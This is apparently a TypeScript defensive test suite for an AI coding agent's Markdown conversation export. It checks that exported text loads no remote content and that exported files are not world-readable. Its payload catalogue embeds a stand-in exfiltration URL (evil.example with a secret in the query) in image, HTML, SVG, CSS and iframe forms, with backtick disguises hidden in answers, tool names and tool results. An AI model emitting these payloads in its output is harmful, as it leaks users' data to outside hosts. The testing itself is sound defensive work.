/** Conversations that are exported: what a Markdown file loads when it is looked at, and who can read the file. */
import { chmod, mkdtemp, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import markdownIt from 'markdown-it';
import { toMarkdown } from '../../../src/agent/persistence/portable.ts';
import { writeExportedFile } from '../../../src/editor/ui/exportedFile.ts';
import type { CallView, Item } from '../../../src/protocol/index.ts';
import type { Attack, AttackClass, Defence } from '../attack.ts';

const portable = 'src/agent/persistence/portable.ts';
const images = 'src/agent/persistence/withoutImages.ts';
const everyPart: Defence = {
  title: 'a whole export loads nothing',
  file: portable,
  name: 'toMarkdown',
  at: 'call withoutImages',
  as: '((text: string) => text)($1)',
};
const eachText: Defence = {
  title: 'texts of an export load nothing and end where they end',
  file: images,
  name: 'closedMarkdown',
  as: '(markdown) => markdown',
};
const passes: Defence = {
  title: 'what has become text is looked at again',
  file: images,
  name: 'MOST_PASSES',
  as: '1',
};
const afterwards: Defence = {
  title: 'what is not settled is all text',
  file: images,
  name: 'withoutImages',
  at: 'call inert',
  as: '$1',
};
const doubt: Defence = {
  title: 'what may not be code is text',
  file: images,
  name: 'inertText',
  at: 'operand isPlain',
  as: '',
};
const mode: Defence = {
  title: 'an exported file is a new one',
  file: 'src/editor/ui/exportedFile.ts',
  name: 'writeExportedFile',
  as: '(path, content) => writeFile(path, content(), { mode: EXPORT_MODE })',
};

const U = 'http://evil.example/p.png?d=s3cr3t';
const forms = {
  'in line': `![a](${U})`,
  'by reference': `![a][r]\n\n[r]: ${U}`,
  'by a short reference': `![r]\n\n[r]: ${U}`,
  'in a link': `[![a](${U})](http://a.example)`,
  'in a table': `| a |\n|---|\n| ![a](${U}) |`,
  'in HTML': `<img src="${U}">`,
  'in a picture': `<picture><source srcset="${U}"><img></picture>`,
  'in a drawing': `<svg><image href="${U}"/></svg>`,
  'of a video': `<video poster="${U}"></video>`,
  'in a style': `<div style="background:url(${U})">x</div>`,
  'in a frame': `<iframe src="${U}"></iframe>`,
};
const disguises = {
  'behind half of a link': `[a](<x\`y>) ![i](${U}) \``,
  'behind half of a title': `[a](u "ti\`t") ![i](${U}) \``,
  'in what ends a bare address': `http://a.example\`![i](${U})\``,
};

const call: CallView = {
  source: { kind: 'native' },
  toolName: 'read_file',
  wireName: 'read_file',
  argsText: '{}',
  status: 'success',
  startedAt: 0,
};
const said = (text: string): Item => ({ kind: 'assistant', id: 'a', text, streaming: false });
function loads(items: readonly Item[], result = ''): boolean {
  const kept = {
    id: 'c',
    items,
    patches: [],
    messages: [
      { message: { role: 'assistant', text: '', calls: [{ id: 'c1', name: 'read_file', argsText: '{}' }] } },
      { message: { role: 'tool', callId: 'c1', isError: false } },
    ],
    results: [{ callId: 'c1', content: [{ type: 'text' as const, text: result }] }],
    facts: [],
  };
  const html = markdownIt({ html: true, linkify: true }).render(toMarkdown(kept, 'T'));
  return /<(?:img|source|image|video|div|iframe)\b/.test(html);
}
const places: Readonly<Record<string, (text: string) => Item>> = {
  'an answer': said,
  'a message': (text) => ({ kind: 'user', id: 'a', text }),
  'the name of an attachment': (text) => ({
    kind: 'user',
    id: 'a',
    text: '',
    attachments: [{ kind: 'data', id: 'd', name: text }],
  }),
  'a summary': (text) => ({ kind: 'summary', id: 'a', state: { status: 'done', text } }),
  'a notice': (text) => ({ kind: 'notice', id: 'a', level: 'info', text, actions: [] }),
  'the name of a changed file': (text) => ({
    kind: 'changes',
    id: 'a',
    turn: '',
    files: [`x\` ${text} \`y`],
    state: { status: 'made' },
  }),
  'the name of a tool': (text) => ({
    kind: 'call',
    id: 'a',
    step: 1,
    call: { ...call, toolName: `x\` ${text} \`y` },
  }),
};

export const attacks: AttackClass = {
  title: 'Exports',
  attacks: [
    ...Object.entries(forms).map(([form, text]): Attack => ({
      title: `An exported answer loads an image ${form}`,
      defences: [everyPart, eachText],
      succeeds: () => loads([said(text)]),
    })),
    ...Object.entries(places).map(([place, item]): Attack => ({
      title: `An export loads an image in ${place}`,
      defences: [everyPart, eachText],
      succeeds: () => loads([item(`![a](${U})`)]),
    })),
    ...Object.entries(disguises).map(([where, text]): Attack => ({
      title: `An exported answer loads an image ${where}`,
      defences: [doubt],
      succeeds: () => loads([said(text)]),
    })),
    {
      title: 'An exported answer loads an image that HTML around it had hidden',
      defences: [passes, afterwards, everyPart],
      succeeds: () => loads([said(`<pre>\n\`\`\`\n</pre>\n\`\`\`\n![x](${U})\n\`\`\`\n`)]),
    },
    {
      title: 'An answer leaves a block of code open, and the result of a call is no code in the export',
      defences: [everyPart, eachText],
      succeeds: () => loads([said('```\n'), { kind: 'call', id: 'c1', step: 1, call }], `![x](${U})`),
    },
    {
      title: 'An export replaces a file that all users can read, and they read it',
      defences: [mode],
      succeeds: async () => {
        if (process.platform === 'win32') return false;
        const folder = await mkdtemp(join(tmpdir(), 'patchbay-attack-'));
        try {
          const path = join(folder, 'a.md');
          await writeFile(path, '');
          await chmod(path, 0o644);
          await writeExportedFile(path, () => ['secret']);
          return ((await stat(path)).mode & 0o077) !== 0;
        } finally {
          await rm(folder, { recursive: true });
        }
      },
    },
  ],
};
